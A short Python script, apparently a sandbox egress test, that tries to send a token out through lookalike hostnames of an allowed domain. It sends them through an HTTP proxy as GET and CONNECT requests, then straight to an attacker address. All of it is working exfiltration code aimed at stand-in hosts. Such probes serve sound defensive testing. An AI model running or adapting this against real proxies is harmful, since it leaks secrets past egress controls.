# egress_lookalike: exfiltrates through names that look like the allowed
# docs.example.test, through the egress proxy when there is one (as GET
# and as CONNECT), and straight to the attacker's address when there is
# not (argv: token, port, the attacker's address). Names are only ever
# sent to the proxy: the program resolves nothing itself.
import os, socket, sys, urllib.parse, urllib.request

token, port, addr = sys.argv[1], sys.argv[2], sys.argv[3]
data = "exfiltrated " + token
lookalikes = ["evildocs.example.test", "docs.example.test.evil.test", "docs-example.test", "xdocs.example.test"]
proxy = urllib.parse.urlsplit(os.environ.get("HTTP_PROXY", ""))

if proxy.hostname:
    for name in lookalikes:
        try:
            urllib.request.urlopen("http://%s:%s/?d=%s" % (name, port, urllib.parse.quote(data)), timeout=3)
            print(name, "GET sent")
        except Exception as e:
            print(name, "GET failed:", e)
        try:
            s = socket.create_connection((proxy.hostname, proxy.port), timeout=3)
            s.sendall(("CONNECT %s:%s HTTP/1.1\r\nHost: %s:%s\r\n\r\n" % (name, port, name, port)).encode())
            head = s.recv(4096)
            if head.split(b" ")[1:2] == [b"200"]:
                s.sendall(("POST / HTTP/1.0\r\nContent-Length: %d\r\n\r\n%s" % (len(data), data)).encode())
                s.recv(4096)
            print(name, "CONNECT:", head.split(b"\r\n")[0].decode())
            s.close()
        except OSError as e:
            print(name, "CONNECT failed:", e)

try:
    s = socket.create_connection((addr, int(port)), timeout=2)
    s.sendall(("POST / HTTP/1.0\r\nContent-Length: %d\r\n\r\n%s" % (len(data), data)).encode())
    s.close()
    print("direct: sent")
except OSError as e:
    print("direct failed: errno", e.errno)
